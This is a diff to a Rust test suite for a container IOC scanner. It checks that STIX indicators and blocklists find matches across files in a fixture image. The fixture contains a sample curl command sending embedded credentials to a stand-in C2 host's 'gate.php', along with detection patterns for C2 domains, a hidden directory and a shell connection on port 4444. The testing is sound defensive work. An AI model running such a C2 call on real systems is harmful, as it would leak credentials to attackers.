@@ -140,7 +140,7 @@ fn contacts_and_text_are_two_rules_and_need_a_list() {
         let found = rows.iter().find(|row| row["rule"] == rule && row["sentence"].as_str().unwrap().contains(part));
         found.unwrap_or_else(|| panic!("{rule} {part}: {rows:#?}")).clone()
     };
-    let contact = of("IOC-001", "is connected to 203.0.113.66, port 4444 (tcp)");
+    let contact = of("IOC-001", "is connected to 203.0.113.66:4444 (tcp)");
     assert_eq!((&contact["severity"], &contact["foreign_rule"]), (&json!("high"), &json!("203.0.113.66")));
     assert!(contact["sentence"].as_str().unwrap().contains("(l.txt, line 2: \u{201c}a shell\u{201d})"), "{contact}");
     let of_name = rows.iter().find(|row| row["foreign_rule"] == "kdevtmpfsi").unwrap();
@@ -506,16 +506,102 @@ fn events_for_misp_have_what_an_import_needs() {
 
 /// The small container with a changed file.
 fn with_file(folder: &Path, name: &str, contents: &[u8]) -> String {
+    with_files(folder, &[(name, contents)])
+}
+
+/// The same with several. A name that ends with a slash is a directory.
+fn with_files(folder: &Path, files: &[(&str, &[u8])]) -> String {
     let mut members = Members::of(&fixtures::path("forms-reference/podman-runc.tar"));
     let mut tar = tar::Builder::new(Vec::new());
-    let mut header = tar::Header::new_gnu();
-    header.set_size(contents.len() as u64);
-    header.set_mode(0o755);
-    tar.append_data(&mut header, name, contents).unwrap();
+    for (name, contents) in files {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(contents.len() as u64);
+        header.set_mode(0o755);
+        if name.ends_with('/') {
+            header.set_entry_type(tar::EntryType::Directory);
+        }
+        tar.append_data(&mut header, name, *contents).unwrap();
+    }
     members.set("rootfs-diff.tar", tar.into_inner().unwrap());
     let path = folder.join("made.tar");
     fs::write(&path, members.tar()).unwrap();
     path.display().to_string()
+}
+
+/// Everything that an indicator has is found: all its parts, in all places, by its expressions, and no secret is shown.
+#[test]
+fn parts_places_and_expressions_are_all_found() {
+    let home = tempfile::tempdir().unwrap();
+    let blocked: String = (0..25).map(|number| format!("blocked{number}.evil-list.net\n")).collect();
+    let both = "one.evil-c2.net two.evil-c2.net\n";
+    let get = ["curl https://bot:", "k3Jd9xTmWq@three.evil-c2.net/gate.php?x\n"].concat();
+    let made = with_files(
+        home.path(),
+        &[
+            ("tmp/a", both.as_bytes()),
+            ("tmp/b", both.as_bytes()),
+            ("tmp/c", both.as_bytes()),
+            ("tmp/get", get.as_bytes()),
+            ("etc/blocked", blocked.as_bytes()),
+            ("var/.hidden/", b""),
+        ],
+    );
+    let pattern = |number: u32, pattern: &str| {
+        json!({"type": "indicator", "spec_version": "2.1", "id": format!("indicator--{number}"), "name": format!("n{number}"),
+               "pattern_type": "stix", "pattern": pattern})
+    };
+    let bundle = json!({"type": "bundle", "id": "bundle--1", "objects": [
+        pattern(1, "[domain-name:value = 'one.evil-c2.net'] AND [domain-name:value = 'two.evil-c2.net']"),
+        pattern(2, "[domain-name:value = 'one.evil-c2.net' OR domain-name:value = 'two.evil-c2.net']"),
+        pattern(3, "[domain-name:value LIKE 'three.evil%']"),
+        pattern(4, "[url:value MATCHES '/gate\\\\.php']"),
+        pattern(5, "[file:name LIKE '/tmp/ge_']"),
+        pattern(6, "[domain-name:value = 'one.evil-c2.net' AND file:name = 'a']"),
+        pattern(7, "[directory:path = '/var/.hidden']"),
+    ]});
+    fs::write(home.path().join("b.json"), bundle.to_string()).unwrap();
+    fs::write(home.path().join("l.txt"), format!("{blocked}two.evil-c2.net\n")).unwrap();
+    let ran = run_in(
+        home.path(),
+        &["table", "ioc_matches", &made, "--format", "ndjson", "--ioc", "b.json", "--ioc", "l.txt"],
+    );
+    assert_eq!(
+        ran.err, "cryoscope: b.json: indicator--6: not used: no row has all of these together: domain, name\n",
+        "{ran:?}"
+    );
+    assert!(!ran.out.contains("k3Jd9xTmWq"), "{}", ran.out);
+    let rows: Vec<Value> = ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let found = |id: &str| -> Vec<String> {
+        let of_id = rows.iter().filter(|row| row["list_id"] == id && row["place"] == "file");
+        let mut all: Vec<String> = of_id
+            .map(|row| {
+                format!(
+                    "{} {} {}",
+                    row["how"].as_str().unwrap(),
+                    row["indicator"].as_str().unwrap(),
+                    row["path"].as_str().unwrap()
+                )
+            })
+            .collect();
+        all.sort();
+        all
+    };
+    let both: Vec<String> = ["one", "two"]
+        .iter()
+        .flat_map(|name| ["a", "b", "c"].map(|file| format!("text {name}.evil-c2.net /tmp/{file}")))
+        .collect();
+    assert_eq!((found("indicator--1"), found("indicator--2")), (both.clone(), both), "{rows:#?}");
+    assert_eq!((found("indicator--3").len(), found("indicator--4").len()), (1, 1), "{rows:#?}");
+    assert!(found("indicator--5")[0].starts_with("contact ") && found("indicator--5")[0].ends_with(" /tmp/get"));
+    assert_eq!(found("indicator--7"), ["contact /var/.hidden /var/.hidden"]);
+    // A list in one file says nothing about another.
+    let ran = run_in(home.path(), &["scan", &made, "--rules", "IOC", "--format", "ndjson", "--ioc", "l.txt"]);
+    let rows: Vec<Value> = ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let of =
+        |part: &str| rows.iter().filter(|row| row["sentence"].as_str().unwrap().contains(part)).collect::<Vec<_>>();
+    let (two, listed) = (of("two.evil-c2.net"), of("evil-list.net"));
+    assert!(two.len() == 3 && two.iter().all(|row| row["severity"] == "medium"), "{two:#?}");
+    assert!(listed.len() == 25 && listed.iter().all(|row| row["severity"] == "info"), "{listed:#?}");
 }
 
 /// A script of which variants have a few lines more.
